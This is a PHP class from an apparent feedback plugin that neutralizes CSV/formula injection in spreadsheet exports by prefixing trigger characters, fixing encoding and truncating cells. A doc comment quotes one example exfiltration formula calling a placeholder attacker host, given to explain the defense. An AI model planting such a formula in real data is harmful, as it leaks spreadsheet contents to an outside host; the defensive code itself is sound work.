<?php
/**
 * What may go into a spreadsheet cell.
 *
 * @package UserFeedback
 */

declare( strict_types=1 );

namespace UserFeedback\Export;

/**
 * Every value a visitor typed ends up in a cell that Excel, LibreOffice or Google Sheets opens.
 * A text starting with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is run as a
 * formula by those programs when the file is a CSV, and by some when a user edits the cell: an
 * answer like `=HYPERLINK("https://evil.example/?"&A1,"Click")` would leak the sheet. So such a
 * text gets a leading apostrophe (OWASP "CSV injection"), in both formats, so both read the same.
 * Texts stay texts, numbers numbers: `007` and `12345678901234567890` keep every digit. Line
 * breaks become LF.
 */
final class Cell {

	/**
	 * The characters that make a spreadsheet read a cell as a formula (as keys: one isset()).
	 */
	private const TRIGGERS = array(
		'='  => true,
		'+'  => true,
		'-'  => true,
		'@'  => true,
		"\t" => true,
		"\r" => true,
	);

	/**
	 * Excel's limit on the characters in a cell (the writer refuses longer texts).
	 */
	public const MAX_CHARACTERS = 32767;

	/**
	 * A value ready to be written: numbers as they are, everything else as safe text. Called for
	 * every cell of an export (millions), so the common case — a short valid text — costs a few
	 * checks and no function call beyond them.
	 *
	 * @param mixed $value A value.
	 * @return int|float|string
	 */
	public static function value( $value ) {
		if ( is_string( $value ) ) {
			if ( '' === $value ) {
				return '';
			}
			if ( ! mb_check_encoding( $value, 'UTF-8' ) ) {
				// Invalid UTF-8 would make the XML unreadable (or the cell silently empty).
				$value = mb_convert_encoding( $value, 'UTF-8', 'UTF-8' );
			}
			if ( isset( self::TRIGGERS[ $value[0] ] ) ) {
				$value = "'" . $value;
			}
			if ( str_contains( $value, "\r" ) ) {
				// One line break in both formats (an XLSX reader turns a bare CR into LF anyway).
				$value = str_replace( array( "\r\n", "\r" ), "\n", $value );
			}
			if ( isset( $value[ self::MAX_CHARACTERS ] ) && mb_strlen( $value ) > self::MAX_CHARACTERS ) {
				$value = mb_substr( $value, 0, self::MAX_CHARACTERS );
			}
			return $value;
		}
		if ( is_int( $value ) || ( is_float( $value ) && is_finite( $value ) ) ) {
			return $value;
		}
		if ( null === $value || is_array( $value ) || is_object( $value ) ) {
			return '';
		}
		return self::text( is_bool( $value ) ? ( $value ? '1' : '0' ) : (string) $value );
	}

	/**
	 * A text that no spreadsheet runs, in valid UTF-8, cut to the cell limit.
	 *
	 * @param string $text Any text.
	 * @return string
	 */
	public static function text( string $text ): string {
		return (string) self::value( $text );
	}
}
